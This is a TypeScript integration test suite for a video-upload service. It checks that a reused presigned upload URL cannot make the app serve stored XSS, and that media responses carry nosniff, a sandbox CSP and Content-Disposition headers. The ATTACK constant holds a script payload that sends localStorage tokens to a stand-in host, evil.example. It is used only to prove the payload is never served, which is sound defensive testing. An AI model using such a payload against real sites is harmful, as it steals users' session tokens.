import { readFileSync } from 'node:fs';
import { testMedia } from '../support/media';
import { type RunningApp, startApp } from '../support/stack';
import { api } from './api';
import { signUp, waitForVideo } from './videos';

const ATTACK = '<!doctype html><html><body><script>fetch("//evil.example/?t="+localStorage.token)</script></body></html>';

/** What every response with user media must carry, whatever its bytes are. */
function expectSafeMediaHeaders(res: Response, disposition: 'inline' | 'attachment') {
  expect(res.headers.get('x-content-type-options')).toBe('nosniff');
  expect(res.headers.get('content-security-policy')).toBe("sandbox; default-src 'none'");
  expect(res.headers.get('content-disposition')).toMatch(new RegExp(`^${disposition}; filename="[^"/\\\\]+"`));
  expect(res.headers.get('content-type')).not.toMatch(/html|xml|javascript|svg/);
}

describe('user media cannot be turned into a page of the app (stored XSS through the upload URL)', () => {
  let app: RunningApp;
  let alice: string;
  const get = (path: string, init: RequestInit = {}) => fetch(`${app.baseUrl}${path}`, init);

  beforeAll(async () => {
    app = await startApp();
    alice = await signUp(app.baseUrl);
  }, 180_000);
  afterAll(async () => {
    await app?.stack.stop();
  });

  it('keeps serving the checked video after its upload URL is used again to store an HTML page', async () => {
    const original = readFileSync(testMedia('h264-aac.mp4'));
    const { json: grant } = await api(app.baseUrl, 'POST', '/api/objects/upload', { token: alice });
    // The uploader chooses the stored Content-Type; it must never be what is served.
    expect((await fetch(grant.uploadURL, { method: 'PUT', body: original, headers: { 'content-type': 'text/html' } })).status).toBe(200);
    const body = { videoURL: grant.uploadURL, title: 'Swap', originalFilename: 'swap.mp4', fileSize: original.length, duration: 0 };
    const created = await api(app.baseUrl, 'PUT', '/api/videos/complete-upload', { token: alice, body });
    expect(created.status).toBe(200);

    // The attack: the same presigned URL, a new body.
    const swap = await fetch(grant.uploadURL, { method: 'PUT', body: ATTACK, headers: { 'content-type': 'text/html' } });
    expect(swap.status).toBeLessThan(500);

    const preview = await get(created.json.previewUrl);
    const served = Buffer.from(await preview.arrayBuffer());
    expect(served.includes('<script>')).toBe(false);
    expect(preview.status).toBe(200);
    expect(served.equals(original)).toBe(true);
    expect(preview.headers.get('content-type')).toBe('video/mp4');
    expectSafeMediaHeaders(preview, 'inline');

    // The grant is spent: completing it again (the swapped body, or any body) is refused.
    const again = await api(app.baseUrl, 'PUT', '/api/videos/complete-upload', { token: alice, body: { ...body, fileSize: ATTACK.length } });
    expect([404, 409]).toContain(again.status);
    const list = await api(app.baseUrl, 'GET', '/api/videos', { token: alice });
    expect(list.json.map((v: { id: string }) => v.id)).toEqual([created.json.id]);

    // The worker processes the checked original, not the page.
    const done = await waitForVideo(app.baseUrl, alice, created.json.id, (v) => v.status === 'processed' || v.status === 'error');
    expect(done).toMatchObject({ status: 'processed', videoCodec: 'h264' });
    const download = await get(done.downloadUrl);
    expect(Buffer.from(await download.arrayBuffer()).equals(original)).toBe(true);
  });

  it('sends nosniff, a sandbox CSP and a Content-Disposition with every kind of media', async () => {
    const original = readFileSync(testMedia('vp9-opus.webm'));
    const { json: grant } = await api(app.baseUrl, 'POST', '/api/objects/upload', { token: alice });
    await fetch(grant.uploadURL, { method: 'PUT', body: original });
    const created = await api(app.baseUrl, 'PUT', '/api/videos/complete-upload', {
      token: alice,
      body: { videoURL: grant.uploadURL, title: 'Kinds', originalFilename: 'kinds "final".webm', fileSize: original.length, duration: 0 },
    });
    const video = await waitForVideo(app.baseUrl, alice, created.json.id, (v) => v.status === 'processed' || v.status === 'error');
    expect(video.status).toBe('processed');

    const stream = await get(video.streamUrl, { headers: { range: 'bytes=0-99' } });
    expect(stream.status).toBe(206);
    expectSafeMediaHeaders(stream, 'inline');
    expect(stream.headers.get('content-disposition')).toContain(`filename="video-${video.id}.mp4"`);
    const preview = await get(video.previewUrl, { method: 'HEAD' });
    expect(preview.headers.get('content-type')).toBe('video/webm');
    expectSafeMediaHeaders(preview, 'inline');
    const thumbnail = await get(video.thumbnail);
    expect(thumbnail.headers.get('content-type')).toBe('image/jpeg');
    expectSafeMediaHeaders(thumbnail, 'inline');
    const download = await get(video.downloadUrl, { method: 'HEAD' });
    expectSafeMediaHeaders(download, 'attachment');
    expect(download.headers.get('content-disposition')).toContain('filename="kinds _final_.webm"');

    const { json: tracks } = await api(app.baseUrl, 'GET', '/api/music-tracks', { token: alice });
    const music = await get(tracks[0].url, { method: 'HEAD' });
    expect(music.headers.get('content-type')).toBe('audio/mpeg');
    expectSafeMediaHeaders(music, 'inline');
  });

  it('serves a preview only for a completed upload: a file PUT but never completed is not reachable', async () => {
    const { json: grant } = await api(app.baseUrl, 'POST', '/api/objects/upload', { token: alice });
    await fetch(grant.uploadURL, { method: 'PUT', body: ATTACK, headers: { 'content-type': 'text/html' } });
    const name = new URL(grant.uploadURL).pathname.split('/').pop()!;
    const { json: listed } = await api(app.baseUrl, 'GET', '/api/videos', { token: alice });
    // A signed preview link of one of alice's videos, pointed at the never-completed object's name.
    const signed = new URL(listed[0].previewUrl, app.baseUrl);
    const res = await get(`/objects/uploads/${name}`, { headers: { authorization: `Bearer ${alice}` } });
    expect(res.status).toBe(404);
    expect(await res.text()).not.toContain('<script>');
    expect((await get(`/objects/uploads/${name}${signed.search}`)).status).toBe(401);
  });
});
